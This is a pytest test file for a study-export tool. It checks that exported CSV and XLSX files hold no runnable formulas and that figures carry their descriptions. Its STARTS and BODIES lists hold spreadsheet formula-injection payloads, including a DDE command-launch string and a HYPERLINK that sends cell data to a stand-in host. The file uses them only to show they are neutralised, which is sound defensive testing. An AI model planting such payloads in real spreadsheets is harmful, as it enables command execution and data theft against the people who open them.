"""Everything leaves as files with its description, and nothing in them runs (goal B6)."""

from __future__ import annotations

import base64
import csv
import io
import json
import random
import re
import shutil
import struct
import subprocess
import zipfile

import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from svcnb.cli import cli
from svcnb.figures.described import with_description
from svcnb.i18n import words_in
from svcnb.panels.downloads import table_csv
from svcnb.study import load_study
from svcnb.tables.sheet import LONGEST, book_bytes

TOML = '[study]\nname = "Filters"\ncurrency = "EUR"\nperiod_start = 2025-01-01\nperiod_end = 2025-12-31\n'
STARTS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "'=", "''="]
BODIES = ['1+1', 'cmd|" /C calc"!A0', 'HYPERLINK("http://x.example/?"&A1;"click")', "SUM(A1:A9)", "2", "WEBSERVICE(1)", "A1", "",
          'DDE("a";"b")', "-1", "x,y;z", 'q"uote', "a\nb"]


def _hostile(seed: int, n: int) -> list[str]:
    rng = random.Random(seed)
    return [rng.choice(STARTS) + rng.choice(BODIES) + rng.choice(["", " ", str(rng.random())]) for _ in range(n)]


def _cells(data: bytes) -> list[tuple]:
    """(type, formula, shown text, quote prefix) of every cell of the first sheet, from the xml itself."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        prefixed = [' quotePrefix="1"' in style or ' quotePrefix="true"' in style for style in
                    re.findall(r"<xf [^>]*?/?>", book.read("xl/styles.xml").decode().split("<cellXfs")[1])]
    found = []
    for attributes, inner in re.findall(r"<c ([^>]*?)(?:/>|>(.*?)</c>)", sheet, re.DOTALL):
        kind = re.search(r't="(\w+)"', attributes)
        style = re.search(r's="(\d+)"', attributes)
        found.append((kind[1] if kind else "n", "<f" in inner, prefixed[int(style[1])] if style else False))
    return found


def test_a_thousand_hostile_texts_run_in_no_workbook():
    """No cell has a formula; each text is of the type text with the mark of a typed apostrophe; numbers are numbers."""
    texts = _hostile(7, 1000)
    data = book_bytes({"hostile": [["text", "number"], *([text, -k / 4] for k, text in enumerate(texts))]})
    cells = _cells(data)
    assert len(cells) == 2002
    assert not any(formula for _, formula, _ in cells)
    assert {(kind, mark) for kind, _, mark in cells[2::2]} == {("inlineStr", True)}
    assert {(kind, mark) for kind, _, mark in cells[3::2]} == {("n", False)}
    back = openpyxl.load_workbook(io.BytesIO(data))["hostile"]
    assert [cell.value for cell in back["A"][1:]] == [text.replace("\r", "\n") for text in texts]  # xml has one line end
    assert [cell.value for cell in back["B"][1:]] == [-k / 4 for k in range(1000)]


def test_a_thousand_hostile_texts_run_in_no_csv_and_come_back(tmp_path):
    texts = [text for text in _hostile(8, 1000) if text.strip() == text]
    frame = pd.DataFrame({"customer_id": [f"K{k}" for k in range(len(texts))], "name": texts,
                          "margin": [-k / 4 for k in range(len(texts))]})
    data = table_csv(frame)
    for row in list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))[1:]:
        assert not row[1].startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝"))
        assert float(row[2]) <= 0
    (tmp_path / "study.toml").write_text(TOML, "utf-8")
    (tmp_path / "customers.csv").write_bytes(data)
    with load_study(tmp_path) as study:
        assert study.problems() == []
        assert study.table("customers")["name"].tolist() == texts
        assert study.table("customers")["margin"].tolist() == frame["margin"].tolist()


def test_a_hostile_workbook_reads_back_equal(tmp_path):
    texts = [text for text in _hostile(9, 300) if text.strip() == text and "\r" not in text]
    rows = [["customer_id", "name", "margin"], *([f"K{k}", text, -k / 4] for k, text in enumerate(texts))]
    (tmp_path / "study.toml").write_text(TOML, "utf-8")
    (tmp_path / "customers.xlsx").write_bytes(book_bytes({"customers": rows}))
    with load_study(tmp_path) as study:
        assert study.problems() == []
        assert study.table("customers")["name"].tolist() == texts
        assert study.table("customers")["margin"].tolist() == [-k / 4 for k in range(len(texts))]


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(max_size=12), min_size=1, max_size=5))
def test_any_text_is_written_without_a_formula(texts):
    assert not any(formula for _, formula, _ in _cells(book_bytes({"x": [["text"], *([text] for text in texts)]})))


def test_what_a_workbook_cannot_hold_is_marked_not_lost():
    data = book_bytes({"x": [["text"], ["a\x01b"], ["x" * (LONGEST + 1)], [float("inf")], [None], [True], [3]]})
    values = [cell.value for cell in openpyxl.load_workbook(io.BytesIO(data))["x"]["A"]]
    assert values == ["text", "a\ufffdb", "x" * LONGEST, None, None, True, 3]


def test_sheet_names_are_what_a_spreadsheet_takes():
    names = ["Measures [all]: *?", "Measures [all]: *?", "x" * 40, "x" * 40, "", "'quoted'"]
    book = openpyxl.load_workbook(io.BytesIO(book_bytes({f"{n}{' ' * k}": [["a"]] for k, n in enumerate(names)})))
    assert len(book.sheetnames) == 6
    assert all(len(name) <= 31 and not set(name) & set("[]*?:/\\") for name in book.sheetnames)


def test_libreoffice_evaluates_nothing(tmp_path):
    program = shutil.which("soffice") or shutil.which("libreoffice")
    if program is None:
        pytest.skip("no LibreOffice on this machine")
    texts = [text for text in _hostile(10, 1000) if not set(text) & set("\r\n\t")]
    (tmp_path / "hostile.xlsx").write_bytes(book_bytes({"x": [["text"], *([text] for text in texts)]}))
    subprocess.run([program, "--headless", "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir", str(tmp_path),
                    str(tmp_path / "hostile.xlsx")], check=True, timeout=120, capture_output=True)
    rows = list(csv.reader((tmp_path / "hostile.csv").read_text("utf-8-sig").splitlines()))
    assert [row[0] for row in rows[1:]] == texts


# pictures --------------------------------------------------------------------------------------------

PIXEL = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")


def _chunks(data: bytes) -> dict[str, str]:
    found, at = {}, 8
    while at < len(data):
        size, kind = struct.unpack(">I4s", data[at:at + 8])
        if kind == b"iTXt":
            key, text = data[at + 8:at + 8 + size].split(b"\0\0\0\0\0")
            found[key.decode()] = text.decode("utf-8")
        at += 12 + size
    return found


def test_a_png_says_what_it_shows_and_is_still_a_png():
    from matplotlib.image import imread

    data = with_description(PIXEL, "png", "Título", "dos barras", "S2:L1")
    assert _chunks(data) == {"Title": "Título", "Description": "dos barras", "Source": "S2:L1"}
    assert (imread(io.BytesIO(data)) == imread(io.BytesIO(PIXEL))).all()


def test_an_svg_says_what_it_shows():
    data = with_description(b'<?xml version="1.0"?>\n<svg width="1"><g/></svg>', "svg", "A < B", "two & one", "S2:L1")
    assert data == (b'<?xml version="1.0"?>\n<svg width="1" role="img"><title>A &lt; B</title><desc>two &amp; one\nS2:L1</desc>'
                    b"<g/></svg>")


# the command -----------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def exported(tmp_path_factory):
    """A study of 60 customers, half of them using the product, with a name that would run; exported in Spanish."""
    folder = tmp_path_factory.mktemp("export") / "filters"
    folder.mkdir()
    (folder / "study.toml").write_text(TOML.replace("Filters", "=Filters"), "utf-8")
    rows = [f"K{k},{'=farm' if k < 30 else 'fleet'},{k < 30},{10 * k}" for k in range(60)]
    (folder / "customers.csv").write_text("customer_id,branch,uses_product,revenue\n" + "\n".join(rows) + "\n", "utf-8")
    out = folder.parent / "out"
    result = CliRunner().invoke(cli, ["export", str(folder), "-o", str(out), "--lang", "es"], obj={"language": "en"})
    if result.exception is not None:
        raise result.exception
    return out, result.stdout


def test_what_is_said(exported):
    out, said = exported
    entries = json.loads((out / "descriptions.json").read_text("utf-8"))
    figures = [entry for entry in entries if any(file.endswith(".svg") for file in entry["files"])]
    files = [path for path in out.rglob("*") if path.is_file()]
    assert said == (f"{out}: {len(entries) - len(figures)} tablas y {len(figures)} figuras en {len(files)} archivos.\n"
                    f"Abra {out / 'index.html'} en un navegador.\n")
    assert len(figures) >= 2


def test_every_table_and_figure_has_its_files_and_its_description(exported):
    out, _ = exported
    words = words_in("es")
    for entry in json.loads((out / "descriptions.json").read_text("utf-8")):
        kinds = {file.rpartition(".")[2] for file in entry["files"]}
        assert kinds == {"csv", "xlsx"} or kinds == {"csv", "xlsx", "png", "svg"}
        assert all((out / file).is_file() for file in entry["files"])
        if not entry["page"]:
            continue
        assert {"Título", "Pregunta", "Filas", "Evidencia", "Moneda", "Estudio", "Hecho con"} <= set(entry["description"])
        for file in entry["files"]:
            if file.endswith("svg"):
                text = entry["description"]["En palabras"]
                assert text and f"<title>{entry['title']}</title>" in (out / file).read_text("utf-8")
            if file.endswith("png"):
                assert _chunks((out / file).read_bytes())["Title"] == entry["title"]
            if file.endswith("xlsx"):
                about = openpyxl.load_workbook(out / file)[words("about")]
                assert [cell.value for cell in about[2]][1:] == ["Título", entry["title"]]


def test_nothing_exported_runs(exported):
    out, _ = exported
    for path in out.rglob("*.xlsx"):
        assert not any(formula for _, formula, _ in _cells(path.read_bytes())), path.name
    for path in out.rglob("*.csv"):
        for row in csv.reader(io.StringIO(path.read_text("utf-8-sig"), newline="")):
            for cell in row:
                try:
                    float(cell)
                except ValueError:
                    assert not cell.startswith(("=", "+", "-", "@")), (path.name, cell)


def test_the_index_asks_no_other_place(exported):
    out, _ = exported
    html = (out / "index.html").read_text("utf-8")
    assert set(re.findall(r'(?:src|href)="([^"]*)"', html)) <= {path.relative_to(out).as_posix() for path in out.rglob("*")}
    assert "<h1>Tablas y figuras: =Filters</h1>" in html


def test_numbers_of_every_step(exported):
    out, _ = exported
    frame = pd.read_csv(out / "quantities.csv", encoding="utf-8-sig")
    assert frame.set_index(["step", "name"]).loc[("study", "n_customers"), "value"] == "60"
    assert frame.set_index("name").loc["n_customers", "meaning"] == "clientes"
    assert set(frame.columns) == {"step", "name", "meaning", "value", "unit", "n", "low", "high", "evidence"}


def test_an_earlier_export_is_written_over_and_another_folder_is_not(exported, tmp_path):
    out, _ = exported
    before = {path.relative_to(out).as_posix(): path.read_bytes() for path in out.rglob("*.csv")}
    study = out.parent / "filters"
    assert CliRunner().invoke(cli, ["export", str(study), "-o", str(out)], obj={}).exception is None
    assert {path.relative_to(out).as_posix() for path in out.rglob("*.csv")} == set(before)
    with pytest.raises(Exception) as error:
        raise CliRunner().invoke(cli, ["export", str(study), "-o", str(study)], obj={}).exception
    assert str(error.value) == f"{study} is not empty; nothing was written. Give a folder that is not there yet."


def test_a_page_makes_its_workbook_when_it_is_asked_for(exported, monkeypatch):
    """Before the button is pressed there is no link; after it the link holds the page's tables and their description."""
    from svcnb.pages import open_page

    out, _ = exported
    monkeypatch.setenv("SVCNB_STUDIES", str(out.parent))
    page = open_page("segmentation", "filters", "es")
    button, link = page.side().widget.children[-1].children
    assert (button.description, link.value) == ("Tablas en xlsx", "")
    button.click()
    assert re.search(r'download="segmentation.xlsx"', link.value) and "segmentation.xlsx está listo: descargar" in link.value
    book = openpyxl.load_workbook(io.BytesIO(base64.b64decode(re.search(r"base64,([^\"]+)", link.value)[1])))
    assert book.sheetnames[-1] == "acerca de" and len(book.sheetnames) >= 2
    page.journal.close()
